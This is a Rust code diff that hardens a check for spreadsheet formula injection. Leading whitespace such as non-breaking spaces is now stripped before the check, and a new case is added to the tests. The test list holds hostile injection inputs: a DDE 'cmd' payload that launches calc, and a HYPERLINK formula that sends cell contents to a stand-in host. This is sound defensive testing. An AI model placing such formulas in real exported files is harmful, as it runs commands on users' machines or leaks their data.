@@ -90,7 +90,10 @@ const NOTICE: &str = "Notice";
 /// Whether a spreadsheet that splits a text at commas, semicolons or tabs would find a formula in it.
 fn has_formula(text: &str) -> bool {
     let mut cells = text.split([',', ';', '\t']).skip(1);
-    cells.any(|cell| cell.trim_start_matches([' ', '"', '\'']).starts_with(['=', '+', '-', '@']))
+    cells.any(|cell| {
+        cell.trim_start_matches(|sign: char| sign.is_whitespace() || matches!(sign, '"' | '\''))
+            .starts_with(['=', '+', '-', '@'])
+    })
 }
 
 fn columns(arm: &ArmTrajectory) -> Vec<(String, &[f64])> {
@@ -156,7 +159,7 @@ mod tests {
             "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&zz=1%2C%3Dcmd%7C%27%2FC%20calc%27%21A0%2Cx",
             "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&n=9,=HYPERLINK(\"http://e.x/\"&A1),y",
             "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&n=%22%2C%3D1%2B1&art=;@SUM(A1)&k=%09-1",
-            "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&=cmd,+1=2&zz,%3D2=-1",
+            "?v=1&m=2&a=5m5d8w1c&wk=10&pop=0&=cmd,+1=2&zz,%3D2=-1&yy=1%2C%C2%A0%3D1",
         ];
         for link in attacks {
             let decoded = link::decode(link).unwrap();
